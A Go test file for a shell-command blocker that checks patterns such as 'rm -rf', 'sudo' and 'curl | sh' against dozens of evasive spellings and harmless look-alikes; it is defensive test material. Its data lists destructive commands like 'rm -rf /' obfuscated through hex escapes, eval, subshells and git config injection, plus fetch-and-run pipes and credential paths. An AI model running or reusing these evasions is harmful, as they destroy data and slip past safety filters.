package shell

import (
	"strings"
	"testing"
)

// TestPatternMatch checks blocked patterns against attacker spellings and
// benign look-alikes.
func TestPatternMatch(t *testing.T) {
	tests := []struct {
		pattern string
		match   []string
		noMatch []string
	}{
		{"rm -rf",
			[]string{
				"rm -rf /", "rm -r -f /", "rm -fr ~", "rm --recursive --force /", "rm -R -f /",
				"/bin/rm -rf /", `\rm -rf /`, "command rm -rf /", `"rm" -rf /`, `rm "-rf" /`,
				"r''m -rf ~", `r""m -rf /`, `$'\x72m' -rf /`, `$'\162\155' -rf /`, "RM -rf /",
				"sudo rm -rf /", "sudo -u root -- rm -rf /", "doas rm -rf /", "env rm -rf /",
				"/usr/bin/env rm -rf /", "nice -n 5 rm -rf /", "timeout 5 rm -rf /", "nohup rm -rf / &",
				"exec rm -rf /", "builtin command rm -rf /", "xargs rm -rf", "busybox rm -rf /",
				`bash -c "rm -rf /"`, "sh -c 'rm -rf /'", "bash -lc 'rm -rf /'", "zsh -c 'rm -rf /'",
				"eval 'rm -rf /'", "eval rm -rf /", "su -c 'rm -rf /'", "su - root -c 'rm -rf /'",
				"sudo -s 'rm -rf /'", "ssh host rm -rf /", "watch 'rm -rf /'", "alias ll='rm -rf /'",
				"trap 'rm -rf /' EXIT", "flock /tmp/l -c 'rm -rf /'", "env -S 'rm -rf /'",
				"ls && rm -fr ~", "ls; rm -rf /", "ls || rm -rf /", "true | rm -rf /",
				"(rm -rf /)", "{ rm -rf /; }", "if true; then rm -rf /; fi", "for i in 1; do rm -rf /; done",
				"while true; do rm -rf /; done", "case x in x) rm -rf /;; esac",
				"f() { rm -rf /; }", "f() { rm -rf /; }; f", "echo $(rm -rf /)", "echo `rm -rf /`",
				"echo ${x:-$(rm -rf /)}", "cat <(rm -rf /)", "cat <<EOF\n$(rm -rf /)\nEOF",
				"find ~ -delete", "find / -name '*' -delete", "find . -exec rm -rf {} \\;",
				"a=rm; $a -rf /", "a=-rf; rm $a /", "x='rm -rf /'; $x", "{rm,-rf,/}",
				"bash <<< 'rm -rf /'", "bash -c '$1 -rf /' _ rm", "x='a[$(rm -rf /)]'; echo $((x))",
				"GIT_SSH_COMMAND='rm -rf /' git fetch", "git -c core.pager='rm -rf /' log",
				"rm -rf -- /", "rm -v -r -f /", "rm -rfv /",
			},
			[]string{
				`git commit -m "docs: warn against rm -rf"`, `grep -rn "rm -rf" docs/`, "echo rm -rf",
				"echo 'rm -rf /'", "rm -r /tmp/x", "rm -f x", "rm x", "rm -- -rf", "cat rm-rf.md",
				"ls -rf", "printf 'rm -rf /'", "grep -r rm -f pats",
			}},
		{"sudo",
			[]string{"sudo ls", "sudo -u root id", "/usr/bin/sudo ls", "bash -c 'sudo ls'", "echo $(sudo id)", "SUDO ls", "env sudo ls", "ls | sudo tee x"},
			[]string{"grep -rn sudo docs/", "cat docs/sudoers-guide.md", "echo sudo", "ls sudo", "man sudo", "sudoku"}},
		{"kubectl delete",
			// Positionals match as a subsequence, so a pod named "delete"
			// matches too (the conservative side).
			[]string{"kubectl delete pod x", "kubectl -n prod delete pod x", "kubectl --context=prod delete ns x", "sudo kubectl delete pod x", "kubectl describe pod delete"},
			[]string{"kubectl get pods", "echo kubectl delete", "kubectl get delet"}},
		{"git push --force",
			[]string{"git push --force", "git push -f origin main", "git push origin main --force", "git push origin +main", "git -C repo push -f"},
			[]string{"git push", "git push origin main", "git push --force-with-lease", "git commit -m 'git push --force'", "git pull --force"}},
		{"chmod 777",
			[]string{"chmod 777 x", "chmod -R 777 /", "sudo chmod 777 /etc", "find . -exec chmod 777 {} +"},
			[]string{"chmod 755 x", "chmod 7777 x", "echo chmod 777"}},
		{"curl | sh",
			[]string{
				"curl -s http://x/y | sh", "curl -s http://x/y | /bin/sh", "curl x | sudo bash", "curl x | bash",
				"git status && curl -s http://x/y | /bin/sh", "curl x | tee log | sh", "curl x | zsh -s",
				"curl x | busybox sh", "curl x | sudo -u root dash",
			},
			[]string{"curl x | grep y", "curl x > f; sh f", "sh -c 'curl x'", "echo curl | sh x", "sh | curl x"}},
		{"curl | python",
			[]string{"curl x | python3", "curl x | python3.12 -", "curl x | sudo python"},
			[]string{"curl x | jq ."}},
		{"sudo rm -rf",
			[]string{"sudo rm -rf /", "sudo -u root rm -fr /", "sudo env rm -rf /"},
			[]string{"rm -rf /", "sudo ls", "sudo rm x"}},
		{"find -delete",
			[]string{"find . -delete", "find / -name x -delete"},
			[]string{"find . -name x", "rm -rf x"}},
	}
	for _, tt := range tests {
		p, err := CompilePattern(tt.pattern)
		if err != nil {
			t.Fatalf("CompilePattern(%q): %v", tt.pattern, err)
		}
		if p.String() != tt.pattern {
			t.Errorf("String() = %q, want %q", p.String(), tt.pattern)
		}
		for _, src := range tt.match {
			s, err := Analyze(src, Limits{})
			if err != nil {
				t.Errorf("Analyze(%q): %v", src, err)
				continue
			}
			i, ok := p.Match(s)
			if !ok {
				t.Errorf("pattern %q does not match %q: %q", tt.pattern, src, summaries(s))
			} else if i < 0 || i >= len(s.Commands) {
				t.Errorf("pattern %q on %q: index %d out of range", tt.pattern, src, i)
			}
		}
		for _, src := range tt.noMatch {
			s, err := Analyze(src, Limits{})
			if err != nil {
				t.Errorf("Analyze(%q): %v", src, err)
				continue
			}
			if i, ok := p.Match(s); ok {
				t.Errorf("pattern %q matches %q at %d (%s)", tt.pattern, src, i, summary(s.Commands[i]))
			}
		}
	}
}

// TestPatternMatchIndex checks which command Match reports.
func TestPatternMatchIndex(t *testing.T) {
	tests := []struct {
		pattern, src string
		want         int
	}{
		{"rm -rf", "ls; rm -rf /", 1},
		{"rm -rf", "sudo rm -rf /", 1},
		{"sudo", "ls; sudo rm -rf /", 1},
		{"curl | sh", "ls; curl x | grep y | sh", 3},
		{"curl | sh", "curl x | sudo bash", 2},
	}
	for _, tt := range tests {
		p, err := CompilePattern(tt.pattern)
		if err != nil {
			t.Fatal(err)
		}
		s := mustAnalyze(t, tt.src)
		if i, ok := p.Match(s); !ok || i != tt.want {
			t.Errorf("%q on %q: got %d %v, want %d", tt.pattern, tt.src, i, ok, tt.want)
		}
	}
}

// TestCompilePatternErrors checks what is not a command pattern.
func TestCompilePatternErrors(t *testing.T) {
	tests := []struct {
		pattern, want string
	}{
		{"", "empty"},
		{"   ", "empty"},
		{"/etc/shadow", "path pattern"},
		{"~/.ssh", "path pattern"},
		{"./x", "path pattern"},
		{"../x", "path pattern"},
		{"$HOME/.aws", "path pattern"},
		{"rm 'x", "reached EOF"},
		{"rm > x", "redirection"},
		{"rm $(x)", "command pattern"},
		{"$x -rf", "not static"},
		{"rm $x", "not static"},
		{"rm *", "glob"},
		{"ls; rm", "one command or one pipeline"},
		{"a && b", "one command or one pipeline"},
		{"A=1", "assignment"},
		{"A=1 ls", "assignment"},
	}
	for _, tt := range tests {
		_, err := CompilePattern(tt.pattern)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("CompilePattern(%q) error %v, want %q", tt.pattern, err, tt.want)
		}
	}
	for _, s := range []string{"/etc/shadow", "~/.ssh", "~", "./x", "../x", "$HOME/x", " /etc"} {
		if !IsPathPattern(s) {
			t.Errorf("IsPathPattern(%q) = false", s)
		}
	}
	for _, s := range []string{"rm -rf", "sudo", "curl | sh", ".bashrc", "etc/shadow"} {
		if IsPathPattern(s) {
			t.Errorf("IsPathPattern(%q) = true", s)
		}
	}
}

// TestPatternNil checks that Match does not panic on nil inputs.
func TestPatternNil(t *testing.T) {
	var p *CommandPattern
	if _, ok := p.Match(&Script{}); ok {
		t.Error("nil pattern matched")
	}
	p, _ = CompilePattern("ls")
	if _, ok := p.Match(nil); ok {
		t.Error("matched nil script")
	}
}

// TestBenignCommands checks everyday commands: no blocked pattern matches,
// and nothing is marked as hidden code or a dynamic program.
func TestBenignCommands(t *testing.T) {
	var pats []*CommandPattern
	for _, s := range []string{"rm -rf", "sudo", "curl | sh", "git push --force", "kubectl delete", "chmod 777", "curl | python"} {
		p, err := CompilePattern(s)
		if err != nil {
			t.Fatal(err)
		}
		pats = append(pats, p)
	}
	benign := []string{
		"grep -rn sudo docs/", `git commit -m "docs: warn against rm -rf"`, "cat docs/sudoers-guide.md",
		"git log --oneline | head -20", "find . -name '*.go' | xargs grep -n TODO", "python3 -m pytest -q",
		`echo "today is $(date)"`, "go test ./... && go vet ./...", "npm run build", "ls -la ~/project",
		"git status --short && git diff --stat", "make -j4 test", "docker ps -a", "kubectl get pods -n prod",
		"rg -n 'fn main' src/", "cat package.json | jq .scripts", "curl -s https://example.com | jq .",
		"git push origin feature/x", "chmod 755 bin/tool", "rm -f build/out.o", "tar -czf out.tgz dist/",
		"sed -n '1,40p' main.go", "awk -F: '{print $1}' /etc/hosts", "wc -l *.go", "du -sh .",
		bench200,
	}
	for _, src := range benign {
		s := mustAnalyze(t, src)
		for _, p := range pats {
			if i, ok := p.Match(s); ok {
				t.Errorf("%q: pattern %q matches %s", src, p, summary(s.Commands[i]))
			}
		}
		for _, c := range s.Commands {
			if c.Code != CodeNone || c.Dynamic {
				t.Errorf("%q: %s is marked", src, summary(c))
			}
		}
	}
}
